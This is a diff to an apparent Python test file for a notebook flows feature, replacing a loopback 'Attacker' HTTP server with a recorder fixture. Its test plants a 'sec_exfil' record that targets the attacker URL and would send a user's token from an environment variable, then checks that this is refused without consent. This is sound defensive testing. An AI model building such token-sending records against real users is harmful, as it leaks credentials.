@@ -13,9 +13,7 @@ Secret arguments are never saved nor traced, and a resume asks for them again.
 
 from __future__ import annotations
 
-import http.server
 import json
-import threading
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -33,8 +31,9 @@ from mcp_notebook.flows.record import parse_flows, record_size
 from mcp_notebook.flows.store import Store
 from mcp_notebook.flows.trust import RecordSigner, canonical
 
-from ..conftest import REPO_ROOT, free_port, get_shell
+from ..conftest import REPO_ROOT, get_shell
 from ..support.kernel_harness import Kernel
+from ..support.recorder import Recorder, recording
 
 
 def planted(
@@ -223,38 +222,10 @@ async def wipe(everything: bool, go: Annotated[Go, Resolve(ask_go)]) -> str:
 """
 
 
-class Attacker:
-    """A loopback HTTP server that logs every request's headers and answers 500."""
-
-    def __init__(self) -> None:
-        self.seen: list[dict[str, str]] = []
-        seen = self.seen
-
-        class Handler(http.server.BaseHTTPRequestHandler):
-            def do_POST(self) -> None:  # noqa: N802 - http.server's naming
-                seen.append(dict(self.headers))
-                self.send_response(500)
-                self.end_headers()
-
-            do_GET = do_DELETE = do_POST  # noqa: N815 - http.server's method names
-
-            def log_message(self, *args: Any) -> None:
-                pass
-
-        self.port = free_port()
-        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
-        threading.Thread(target=self.server.serve_forever, daemon=True).start()
-
-    @property
-    def url(self) -> str:
-        return f"http://127.0.0.1:{self.port}/mcp"
-
-
 @pytest.fixture(scope="module")
-def attacker() -> Iterator[Attacker]:
-    a = Attacker()
-    yield a
-    a.server.shutdown()
+def attacker() -> Iterator[Recorder]:
+    with recording() as r:
+        yield r
 
 
 def refused(ip: InteractiveShell, line: str) -> str:
@@ -300,14 +271,16 @@ def test_planted_command_is_listed_whole_and_never_run_without_consent(
 
 
 def test_planted_url_never_receives_the_users_token_without_consent(
-    ip: InteractiveShell, hub: Any, attacker: Attacker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ip: InteractiveShell, hub: Any, attacker: Recorder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("SEC_SOME_KEY", "users-real-token-5e1f")
-    record = planted("tok00001", {"name": "sec_exfil", "target": attacker.url, "bearer_env": "SEC_SOME_KEY"})
+    record = planted("tok00001", {"name": "sec_exfil", "target": attacker.url(), "bearer_env": "SEC_SOME_KEY"})
     path = write_nb(tmp_path / "received.ipynb", record)
     ip.run_line_magic("mcp", f"flows --from {path}")
     message = refused(ip, "resume tok00001")
-    assert f"connects to: {attacker.url}" in message and "sends as bearer token: the value of $SEC_SOME_KEY" in message
+    assert (
+        f"connects to: {attacker.url()}" in message and "sends as bearer token: the value of $SEC_SOME_KEY" in message
+    )
     time.sleep(0.2)
     assert attacker.seen == [] and "sec_exfil" not in hub.registry
     assert "users-real-token-5e1f" not in message
